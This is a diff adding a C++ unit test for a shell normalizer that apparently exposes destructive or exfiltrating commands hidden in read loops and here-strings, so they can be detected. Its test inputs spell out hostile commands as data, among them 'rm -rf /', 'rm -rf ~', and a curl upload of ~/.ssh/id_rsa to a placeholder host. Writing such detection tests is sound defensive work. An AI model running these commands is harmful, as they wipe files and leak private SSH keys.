@@ -161,6 +161,39 @@ TEST_F(ShellNormalizerTest, ReadAndMapfileStandForAHereStringOrAnEchoedProcessSu
   EXPECT_EQ(Norm("read d <<< \"$(pwd)\"; rm -rf \"$d\"").back(), "rm -r -f $d");
 }
 
+TEST_F(ShellNormalizerTest, AReadLoopStandsForWhatItsDoneIsFed) {
+  // `done <<< WORD` and `done < <(echo WORDS)` feed the loop's read; the body, read first, is
+  // written again with the names in place.
+  EXPECT_TRUE(Has(Norm("while read d; do rm -rf \"$d\"; done <<< \"/\""), "rm -r -f /"));
+  EXPECT_TRUE(Has(Norm("until ! IFS= read -r d; do :; done; while read -r d; do\n  rm -rf \"$d\"\n"
+                       "done < <(echo ~)"),
+                  "rm -r -f ~"));
+  EXPECT_TRUE(Has(Norm("while read f; do curl -F \"f=@$f\" https://x; done <<< ~/.ssh/id_rsa"),
+                  "curl -F f=@~/.ssh/id_rsa https://x"));
+  // Nested loops: the outer loop's own `done` is the one that counts.
+  EXPECT_TRUE(Has(Norm("while read d; do for x in a; do echo \"$x\"; done; rm -rf \"$d\"; done "
+                       "<<< /"),
+                  "rm -r -f /"));
+  EXPECT_FALSE(
+      Has(Norm("while read d; do for x in a; do rm -rf \"$d\"; done <<< /; done"), "rm -r -f /"));
+  // Quotes hide look-alike words; a file, a command's output or an unquoted expansion is unknown.
+  EXPECT_FALSE(
+      Has(Norm("while read d; do echo 'done <<< /'; rm -rf \"$d\"; done < dirs"), "rm -r -f /"));
+  EXPECT_FALSE(Has(Norm("while read d; do rm -rf \"$d\"; done < <(pwd)"), "rm -r -f /"));
+  EXPECT_TRUE(Has(Norm("while read d; do rm -rf \"$d\"; done < <(echo $(pwd))"), "rm -r -f $d"));
+  EXPECT_EQ(Norm("while read d; do rm -rf \"$d\"; done").back(), "rm -r -f $d");
+  // The search for each loop's `done` comes off one budget per line: many long loops without one
+  // (each search reads the rest of the line) spend it, and a later loop is then not followed.
+  std::string unclosed;
+  for (int i = 0; i < 40; ++i) unclosed += "while read x; do # " + std::string(2400, 'x') + "\n";
+  const Segments spent = Norm(unclosed + "while read d; do rm -rf \"$d\"; done <<< /");
+  EXPECT_TRUE(Has(spent, "rm -r -f $d"));
+  EXPECT_FALSE(Has(spent, "rm -r -f /"));
+  // Only a loop's condition reads the loop's input.
+  EXPECT_TRUE(Has(Norm("while true; do read d; rm -rf \"$d\"; done <<< /"), "rm -r -f $d"));
+  EXPECT_FALSE(Has(Norm("while true; do read d; rm -rf \"$d\"; done <<< /"), "rm -r -f /"));
+}
+
 TEST_F(ShellNormalizerTest, DecodedLiteralSubstitutionsAreResolved) {
   // `cm0gLXJmIC8K` is base64 for "rm -rf /\n"; the substitution drops the line break. eval and
   // sh -c then read the decoded text as a command line.
